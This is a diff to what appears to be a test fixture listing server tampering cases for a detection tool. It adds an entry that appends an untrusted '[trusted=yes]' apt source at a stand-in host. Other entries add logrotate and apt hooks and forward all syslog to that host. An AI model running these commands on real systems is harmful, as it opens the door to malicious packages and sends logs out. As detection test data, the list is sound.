@@ -56,6 +56,8 @@ SERVER_ALTERATIONS = (
                "printf '/var/log/x {\\n prerotate\\n true\\n endscript\\n}\\n' > /etc/logrotate.d/x"),
     Alteration("apt's hook", "file", "/etc/apt/apt.conf.d/99x", "added",
                "echo 'APT::Update::Post-Invoke { \"true\"; };' > /etc/apt/apt.conf.d/99x"),
+    Alteration("where packages come from", "file", "/etc/apt/sources.list", "modified",
+               "echo 'deb [trusted=yes] http://192.0.2.1/ ./' >> /etc/apt/sources.list", "sha256"),
     Alteration("where logs go", "file", "/etc/rsyslog.d/x.conf", "added",
                "echo '*.* @192.0.2.1' > /etc/rsyslog.d/x.conf"),
     Alteration("log that is none", "file", "/var/log/x.bin", "added", "echo x > /var/log/x.bin"),
